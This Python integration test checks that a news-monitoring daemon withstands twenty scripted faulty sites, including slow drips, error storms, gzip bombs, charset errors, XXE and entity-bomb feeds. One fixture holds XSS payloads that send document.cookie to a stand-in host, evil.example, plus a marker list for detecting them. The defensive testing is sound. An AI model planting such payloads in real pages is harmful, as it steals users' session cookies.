"""One daemon polls twenty sites at once — nineteen fail the ways government sites fail, one is
healthy — every two seconds. Each misbehaving site is its own scripted server (its own host, as in
life); the healthy control site must keep its schedule, every article that can be stored must be stored
once and intact, every operator notice must be sent once, and the log must name each failure."""

from __future__ import annotations

import gzip
import itertools
import os
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Sequence
from contextlib import ExitStack
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import yaml
from sqlmodel import col, select

from monitor.db import make_engine, session_scope
from monitor.models import Alert, Document, Item, SourceState
from support.badsite import Answer, ScriptedServer, html
from support.daemonproc import EDU_MONITOR, DaemonProcess, contains, refusing_port, wait_for
from support.faultsites import (
    CHALLENGE_SHELL,
    Article,
    app_article,
    article_html,
    catalog_entry,
    entity_bomb_feed,
    external_entity_feed,
    feed_entry,
    listing_html,
    quiet_scripted,
)
from support.smtp import mailto, parts, smtp_server

GROUP = "sources"
EVERY = 2.0
FAILURES_BEFORE_ALERT = 2
HTTP = {"min_delay": 0, "retries": 1, "backoff": 0.1, "max_backoff": 1.0, "connect_timeout": 1.0, "read_timeout": 1.5}
# The body deadline of monitor.fetch: connect_timeout + 2 × read_timeout.
DRIP_DEADLINE = HTTP["connect_timeout"] + 2 * HTTP["read_timeout"]
MB = 1024 * 1024


def url_path(url: str) -> str:
    return urlsplit(url).path


def ok(body: str, charset: str = "utf-8") -> Answer:
    return html(body, charset=charset)


def gz(data: bytes, **headers: str) -> Answer:
    return Answer(200, data, {"Content-Type": "text/html; charset=utf-8", "Content-Encoding": "gzip", **headers})


def long_article(column: str, slug: str) -> Article:
    """Forty distinct paragraphs, the last one a marker: a body cut anywhere loses the marker."""
    base = app_article(column, slug)
    filler = "\n".join(f"第{k}段：各地教育行政部门要落实教育App备案要求，逐项核查第{k}类应用的数据安全管理情况。"
                       for k in range(1, 41))
    return Article(column, slug, base.title, f"{base.body}\n{filler}\n全文完（{column}-{slug}-END）")


INJECTED_TITLE = "关于<script>alert(1)</script>教育App备案<img src=x onerror=alert(2)>的通知"
SCRIPT_MARKERS = ("stealCookies", "document.cookie", "window.location", "display:none", "evil.example")


def injection_pages(column: str) -> tuple[Article, str, str]:
    article = Article(column, "inj", INJECTED_TITLE,
                      f"{column}站点：省教育厅部署教育App备案和专项治理工作，请各地排查未备案App和违规收集个人信息的应用。\n"
                      "示例代码<script>alert(3)</script>仅作文字展示。")
    hostile_rows = ('<li><a href="javascript:stealCookies()" title="javascript 链接">javascript</a><span>2024-06-01</span></li>'
                    "<script>document.write('<li><a href=http://evil.example/x.html>evil</a></li>')</script>")
    body_extra = ("<script>window.location='http://evil.example/?c='+document.cookie</script>"
                  '<p onclick="stealCookies()">各地要在月底前完成排查<img src=x onerror="stealCookies()"></p>'
                  "<style>body{display:none}</style><noscript><iframe src=http://evil.example/></iframe></noscript>"
                  '<p><a href="javascript:stealCookies()">点击查看附件</a></p>')
    head_extra = "<script>function stealCookies(){new Image().src='http://evil.example/?'+document.cookie}</script>"
    return (article, listing_html([article], extra_rows=hostile_rows),
            article_html(article, body_extra=body_extra, head_extra=head_extra))


class Sites:
    """The scripted servers of this run, one per site, and the catalog that points at them."""

    def __init__(self, stack: ExitStack) -> None:
        self.stack = stack
        self.servers: dict[str, ScriptedServer] = {}
        self.catalog: list[dict[str, Any]] = []
        self.articles: dict[str, list[Article]] = {}

    def add(self, source_id: str, name: str, routes: dict[str, Answer | list[Answer]], path: str = "/list/",
            articles: Sequence[Article] = (), feed: bool = False) -> ScriptedServer:
        for article in articles:
            routes.setdefault(article.path, ok(article_html(article)))
        server = self.stack.enter_context(quiet_scripted(routes))
        self.servers[source_id] = server
        self.articles[source_id] = list(articles)
        entry = feed_entry if feed else catalog_entry
        self.catalog.append(entry(source_id, name, server.base + path, every=f"{EVERY:g}s"))
        return server


def test_misbehaving_sources_are_contained_and_reported(tmp_path: Path, database_url: str, faults) -> None:
    with ExitStack() as stack:
        box = stack.enter_context(smtp_server())
        sites = Sites(stack)

        # -- the healthy control site (a new article appears in the middle of the run) --------------
        control = [app_article("ctl", f"c{n}", n) for n in (1, 2)]
        late = app_article("ctl", "c3", 3)
        ctl = sites.add("control", "对照站点", {"/ctl/": ok(listing_html(control)),
                                                 late.path: ok(article_html(late))}, "/ctl/", control)

        # -- sites that fail on the list page ----------------------------------------------------------
        refused_url = f"http://127.0.0.1:{stack.enter_context(refusing_port())}/list/"
        sites.catalog.append(catalog_entry("refused", "拒绝连接", refused_url, every=f"{EVERY:g}s"))
        listing = listing_html([app_article("x", "x1")]).encode()
        sites.add("reset-list", "中途断开", {"/list/": Answer(200, listing, {"Content-Type": "text/html"}, reset_after=100)})
        sites.add("timeout", "读取超时", {"/list/": Answer(200, listing, {"Content-Type": "text/html"}, delay=4.0)})
        sites.add("drip", "慢速滴漏", {"/list/": Answer(200, listing, {"Content-Type": "text/html"}, drip=1.0)})
        sites.add("storm-500", "500风暴", {"/list/": Answer(500, b"Internal Server Error")})
        ra = [app_article("ra", "r1")]
        sites.add("storm-503-ra", "503风暴带Retry-After",
                  {"/list/": [Answer(503, b"busy", {"Retry-After": "3600"})] * 6 + [ok(listing_html(ra))]}, articles=ra)
        st = [app_article("st", "s1")]
        sites.add("storm-503", "503风暴", {"/list/": [Answer(503, b"busy")] * 4 + [ok(listing_html(st))]}, articles=st)
        sites.add("ratelimit-429", "429限流", {"/list/": Answer(429, b"Too Many Requests", {"Retry-After": "1"})})
        sites.add("gzip-invalid", "无效gzip", {"/list/": gz(b"\x1f\x8b\x08\x00" + b"not really deflate data" * 20)})
        sites.add("redirect-loop", "重定向循环", {"/list/": Answer(302, b"", {"Location": "/list/b"}),
                                               "/list/b": Answer(302, b"", {"Location": "/list/"})})
        sites.add("huge-page", "50MB页面", {"/list/": Answer(200, b"<html><body>" + b"a" * (50 * MB),
                                                               {"Content-Type": "text/html"})})
        sites.add("huge-gzip", "50MB压缩页面",
                  {"/list/": gz(gzip.compress(("<html><body>" + "<p>教育</p>" * (50 * MB // 13)).encode(), compresslevel=6))})
        sites.add("challenge", "挑战页面", {"/list/": ok(CHALLENGE_SHELL)})

        # -- sites whose list works but an article misbehaves -------------------------------------------
        flaky = [app_article("rs", "a1", 1), app_article("rs", "a2", 2)]
        reset_body = article_html(flaky[0]).encode()
        sites.add("reset-article", "文章中途断开", {
            "/list/": ok(listing_html(flaky)),
            flaky[0].path: [Answer(200, reset_body, {"Content-Type": "text/html"}, reset_after=200)] * 3 + [ok(article_html(flaky[0]))],
        }, articles=flaky)
        cut = long_article("gz", "g1")
        whole = gzip.compress(article_html(cut).encode())
        sites.add("gzip-truncated", "截断gzip", {
            "/list/": ok(listing_html([cut])),
            cut.path: [gz(whole[: len(whole) * 6 // 10])] * 2 + [gz(whole)],
        }, articles=[cut])
        gb = Article("gb", "b1", "关于朱镕基𠮷教育App备案工作的通知",
                     "gb站点：省教育厅部署教育App备案和专项治理工作，朱镕基𠮷请各地排查未备案App。\n第二段：落实整改要求。")
        sites.add("wrong-charset", "错误字符集", {
            "/list/": Answer(200, listing_html([gb], charset="gb2312").encode("gb18030"),
                             {"Content-Type": "text/html; charset=utf-8"}),
            gb.path: Answer(200, article_html(gb, charset=None).encode("gb18030"),
                            {"Content-Type": "text/html; charset=iso-8859-1"}),
        }, articles=[gb])
        injected, inj_list, inj_article = injection_pages("inj")
        sites.add("script-injection", "脚本注入", {"/list/": ok(inj_list), injected.path: ok(inj_article)},
                  articles=[injected])

        # -- hostile feeds --------------------------------------------------------------------------------
        bomb = sites.add("feed-bomb", "实体膨胀订阅", {}, path="/feed.xml", feed=True)
        bomb.routes["/feed.xml"] = [Answer(200, entity_bomb_feed(f"{bomb.base}/bomb/a.html"),
                                           {"Content-Type": "application/rss+xml"})]
        bomb.routes["/bomb/a.html"] = [ok(article_html(app_article("bomb", "a")))]
        xxe = sites.add("feed-xxe", "外部实体订阅", {}, path="/feed.xml", feed=True)
        xxe.routes["/feed.xml"] = [Answer(200, external_entity_feed(f"{xxe.base}/xxe/a.html", f"{xxe.base}/secret"),
                                          {"Content-Type": "application/rss+xml"})]
        xxe.routes["/xxe/a.html"] = [ok(article_html(app_article("xxe", "a")))]
        xxe.routes["/secret"] = [Answer(200, b"TOP-SECRET-INTERNAL", {"Content-Type": "text/plain"})]

        (tmp_path / "sources.yml").write_text(yaml.safe_dump(sites.catalog, allow_unicode=True), encoding="utf-8")
        daemon = DaemonProcess(tmp_path, {
            "database_url": database_url, "timezone": "UTC",
            "sources": {"builtin": False, "files": ["sources.yml"]},
            "channels": {"ops": [mailto(box, "ops@test.local")], "admins": [mailto(box, "admins@test.local")],
                         "digest": [mailto(box, "digest@test.local")]},
            "routes": [{"name": "apps-now", "labels": ["app_governance"], "notify": ["ops"], "mode": "instant"},
                       {"name": "daily", "labelled_only": True, "notify": ["digest"], "mode": "digest",
                        "schedule": "0 0 1 1 *"}],
            "http": HTTP,
            "delivery": {"every": "1s", "operator_tag": "admins", "failures_before_alert": FAILURES_BEFORE_ALERT,
                         "backoff": "1s", "max_attempts": 3},
            "workers": 12, "shutdown_grace": "5s",
        })
        stack.callback(daemon.cleanup)
        engine = make_engine(database_url)

        expected = {  # source → (final status, operator notices expected, words of its poll error)
            "refused": ("failing", ["failing"], "connection failed"),
            "reset-list": ("failing", ["failing"], "body unreadable"),
            "timeout": ("failing", ["failing"], "timed out"),
            "drip": ("failing", ["failing"], "slow drip"),
            "storm-500": ("failing", ["failing"], "HTTP 500"),
            "storm-503-ra": ("ok", ["failing", "recovered"], "HTTP 503"),
            "storm-503": ("ok", ["failing", "recovered"], "HTTP 503"),
            "ratelimit-429": ("failing", ["failing"], "HTTP 429"),
            "gzip-invalid": ("failing", ["failing"], "invalid gzip"),
            "redirect-loop": ("failing", ["failing"], "redirect loop"),
            "huge-page": ("failing", ["failing"], "cap"),
            "huge-gzip": ("failing", ["failing"], "cap"),
            "challenge": ("blocked", ["blocked"], "challenge"),
            "feed-bomb": ("broken", ["broken"], "fewer than min_links"),
            "feed-xxe": ("broken", ["broken"], "fewer than min_links"),
            "reset-article": ("ok", [], None),
            "gzip-truncated": ("ok", [], None),
            "wrong-charset": ("ok", [], None),
            "script-injection": ("ok", [], None),
            "control": ("ok", [], None),
        }
        names = {e["id"]: e["name"] for e in sites.catalog}

        def notice_title(source_id: str, kind: str) -> str:
            name = names[source_id]
            return f"数据源已恢复：{name}" if kind == "recovered" else f"数据源异常：{name}（{kind}）"

        def admin_subjects() -> Counter[str]:
            return Counter(str(m["Subject"]) for m in box.to("admins@test.local"))

        def settled() -> bool:
            daemon.assert_alive()
            with session_scope(engine) as session:
                states = {s.source_id: s.status for s in session.exec(select(SourceState)).all()}
                urls = set(session.exec(select(Document.url)).all())
            subjects, paths = admin_subjects(), {url_path(u) for u in urls}
            return (all(states.get(sid) == want for sid, (want, _, _) in expected.items())
                    and all(subjects[notice_title(sid, k)] for sid, (_, kinds, _) in expected.items() for k in kinds)
                    and all(a.path in paths for arts in sites.articles.values() for a in arts))

        started = time.monotonic()
        daemon.start()
        wait_for(lambda: len(ctl.hits("/ctl/")) >= 2, timeout=20, what="the control site's first polls")
        ctl.routes["/ctl/"] = [ok(listing_html([*control, late]))]  # a new article while the storms rage
        sites.articles["control"].append(late)
        wait_for(settled, timeout=60, what="every source to reach its expected state and notice")
        time.sleep(3 * EVERY)  # a few more polls and delivery passes: nothing may be repeated
        daemon.assert_alive()
        run_seconds = time.monotonic() - started
        stop_code = daemon.stop()
        faults.daemon(GROUP, daemon)

        # The digest of everything stored, through the real command and SMTP server.
        env = {**os.environ, "EDU_MONITOR_CONFIG": str(daemon.config_path)}
        sent = subprocess.run([*EDU_MONITOR, "digest", "--send", "--route", "daily"], cwd=tmp_path, env=env,
                              capture_output=True, text=True, timeout=60)

    with session_scope(engine) as session:
        states = {s.source_id: s for s in session.exec(select(SourceState)).all()}
        documents = list(session.exec(select(Document)).all())
        items = list(session.exec(select(Item)).all())
        notices = list(session.exec(select(Alert).where(Alert.route == "source-health")).all())
        instants = list(session.exec(select(Alert).where(Alert.mode == "instant")).all())
        unsent = list(session.exec(select(Alert).where(col(Alert.status) != "sent")).all())
    docs_by_path = {url_path(d.url): d for d in documents}
    subjects = admin_subjects()
    ops_subjects = Counter(str(m["Subject"]) for m in box.to("ops@test.local"))

    def polls_with(source_id: str, words: str) -> list[dict[str, Any]]:
        return daemon.events("poll.done", source=source_id, error=contains(words))

    def check_source(source_id: str, extra: Callable[[Any], str] | None = None) -> None:
        want, kinds, words = expected[source_id]
        with faults.scenario(GROUP, source_id.replace("-", " ")) as s:
            state = states[source_id]
            assert state.status == want, f"{source_id}: status {state.status}, expected {want} ({state.last_error})"
            if words:
                assert polls_with(source_id, words), f"{source_id}: no poll.done log line naming '{words}'"
                assert daemon.events("source.status_changed", source=source_id), f"{source_id}: no status-change log line"
            for kind in kinds:
                count = subjects[notice_title(source_id, kind)]
                s.duplicates += max(0, count - 1)
                assert count == 1, f"{source_id}: operator notice '{kind}' sent {count} times"
            stray = [a.title for a in notices if a.source_id == source_id and not any(
                a.title == notice_title(source_id, k) for k in kinds)]
            assert not stray, f"{source_id}: unexpected operator notices {stray}"
            lost = [a.path for a in sites.articles.get(source_id, []) if a.path not in docs_by_path]
            s.lost += len(lost)
            assert not lost, f"{source_id}: articles never stored: {lost}"
            failures = state.consecutive_failures
            detail = extra(state) if extra else ""
            s.outcome = (f"{state.status}" + (f" after {failures} failed polls" if failures else "")
                         + (f", notices: {'+'.join(kinds)} (once each)" if kinds else "")
                         + (f"; log: {words}" if words else "") + (f"; {detail}" if detail else ""))

    for sid in ("refused", "reset-list", "timeout", "storm-500", "gzip-invalid", "redirect-loop", "huge-page",
                "huge-gzip", "challenge"):
        check_source(sid)

    def drip_detail(_state: Any) -> str:
        took = [e["ms"] for e in polls_with("drip", "slow drip")]
        assert took and max(took) < (DRIP_DEADLINE + 3) * 1000, f"drip polls took {took} ms"
        return f"cut at the {DRIP_DEADLINE:g}s body deadline ({max(took)} ms)"
    check_source("drip", drip_detail)

    def retry_after_detail(source_id: str, cap: float) -> Callable[[Any], str]:
        def detail(_state: Any) -> str:
            hits = sites.servers[source_id].hits("/list/")
            gaps = [b.at - a.at for a, b in zip(hits[0::2], hits[1::2], strict=False)][:3]
            assert gaps and all(0.8 <= g <= cap + 2.5 for g in gaps), f"retry gaps {gaps}"
            return f"Retry-After honoured, capped ({', '.join(f'{g:.1f}s' for g in gaps)})"
        return detail
    check_source("storm-503-ra", retry_after_detail("storm-503-ra", HTTP["max_backoff"]))
    check_source("storm-503")
    check_source("ratelimit-429", retry_after_detail("ratelimit-429", 1.0))

    def feed_detail(source_id: str, never: list[str]) -> Callable[[Any], str]:
        def detail(_state: Any) -> str:
            refused = daemon.events("feed.refused", source=source_id)
            assert refused, f"{source_id}: no feed.refused log line"
            asked = [p for p in never if sites.servers[source_id].hits(p)]
            assert not asked, f"{source_id}: fetched {asked}"
            return f"refused ({refused[0]['reason']}), nothing behind it fetched"
        return detail
    check_source("feed-bomb", feed_detail("feed-bomb", ["/bomb/a.html"]))
    check_source("feed-xxe", feed_detail("feed-xxe", ["/xxe/a.html", "/secret"]))
    with faults.scenario(GROUP, "feed entities in stored data") as s:
        leaked = [d.url for d in documents if "root:" in (d.text + d.title) or "TOP-SECRET" in (d.text + d.title)]
        assert not leaked, f"external entity content stored: {leaked}"
        s.outcome = "no /etc/passwd or internal URL content anywhere in the database"

    def reset_article_detail(_state: Any) -> str:
        failed = daemon.events("article.failed", source="reset-article", error=contains("body unreadable"))
        assert failed, "no article.failed log line for the reset article"
        hits = len(sites.servers["reset-article"].hits(flaky[0].path))
        return f"article retried on the next polls ({hits} requests), stored once"
    check_source("reset-article", reset_article_detail)

    def truncated_detail(_state: Any) -> str:
        doc = docs_by_path[cut.path]
        assert doc.text.rstrip().endswith("全文完（gz-g1-END）"), f"stored text is cut: …{doc.text[-80:]!r}"
        assert daemon.events("article.failed", source="gzip-truncated"), "no article.failed log line"
        return "truncated bodies refused, the whole article stored on the retry"
    check_source("gzip-truncated", truncated_detail)

    def charset_detail(_state: Any) -> str:
        doc = docs_by_path[gb.path]
        assert doc.title == gb.title, f"title garbled: {doc.title!r}"
        assert "朱镕基𠮷请各地排查未备案App" in doc.text, f"text garbled: {doc.text[:80]!r}"
        return "GB18030 page labelled utf-8 / iso-8859-1 stored correctly"
    check_source("wrong-charset", charset_detail)

    def injection_detail(_state: Any) -> str:
        doc = docs_by_path[injected.path]
        texts = [doc.text, doc.title] + [i.text + i.title for i in items if i.document_id == doc.id]
        found = [m for m in SCRIPT_MARKERS for t in texts if m in t]
        assert not found, f"script content stored: {found}"
        assert not any("evil.example" in d.url or d.url.startswith("javascript") for d in documents)
        mails = [m for m in box.to("ops@test.local") if "教育App备案" in str(m["Subject"]) and "alert" in str(m["Subject"])]
        assert len(mails) == 1, f"{len(mails)} instant e-mails for the injected article"
        digests = box.to("digest@test.local")
        assert sent.returncode == 0 and len(digests) == 1, f"digest --send: {sent.stdout} {sent.stderr}"
        for label, message in (("alert", mails[0]), ("digest", digests[0])):
            page = parts(message)["text/html"]
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page, f"{label}: injected title not shown escaped"
            lowered = page.lower()
            assert "<script" not in lowered and "<img" not in lowered and "<iframe" not in lowered, f"{label}: raw markup"
            assert "javascript:" not in lowered and "stealcookies" not in lowered, f"{label}: script reached the HTML"
        return "no script stored; alert and digest e-mails show the title escaped"
    check_source("script-injection", injection_detail)

    with faults.scenario(GROUP, "healthy control keeps its schedule") as s:
        state = states["control"]
        assert state.status == "ok" and state.consecutive_failures == 0
        times = [r.at for r in ctl.hits("/ctl/")]
        gaps = [b - a for a, b in itertools.pairwise(times)]
        span = times[-1] - times[0]
        assert len(gaps) >= span / EVERY * 0.8, f"{len(times)} polls in {span:.0f}s"
        assert max(gaps) <= EVERY + 1.5, f"longest gap between control polls {max(gaps):.1f}s"
        late_doc = docs_by_path.get(late.path)
        assert late_doc is not None, "the article added mid-run was not stored"
        s.lost += sum(a.path not in docs_by_path for a in sites.articles["control"])
        s.outcome = (f"{len(times)} polls in {span:.0f}s (every {EVERY:g}s, longest gap {max(gaps):.1f}s); "
                     "new article stored and alerted")

    with faults.scenario(GROUP, "ledger and mailboxes") as s:
        s.duplicates += sum(n - 1 for n in ops_subjects.values())  # operator notices are counted per source above
        assert all(n == 1 for n in ops_subjects.values()), f"instant alerts repeated: {ops_subjects}"
        assert not unsent, f"alerts not sent: {[(a.key, a.status, a.last_error) for a in unsent]}"
        alerted_docs = {a.document_id for a in instants}
        s.lost += max(0, len(alerted_docs) - len(ops_subjects))
        assert len(ops_subjects) == len(alerted_docs), f"{len(alerted_docs)} documents alerted, {len(ops_subjects)} mails"
        urls = [d.url for d in documents]
        assert len(urls) == len(set(urls))
        if engine.dialect.name == "sqlite":
            with engine.connect() as conn:
                assert conn.exec_driver_sql("PRAGMA integrity_check").scalar() == "ok"
        s.outcome = (f"{len(documents)} documents, {len(instants)} instant alerts = {len(ops_subjects)} e-mails, "
                     f"{len(notices)} operator notices, all sent once")

    with faults.scenario(GROUP, "daemon survives and stops cleanly") as s:
        assert stop_code == 0, f"exit code {stop_code}"
        crashed = daemon.events("poll.crashed") + daemon.events("job.crashed")
        assert not crashed, f"unexpected crashes in the log: {crashed[:2]}"
        s.outcome = f"up for {run_seconds:.0f}s with {len(sites.catalog)} sources, SIGTERM → exit 0, no crash in the log"

    faults.settle(GROUP)

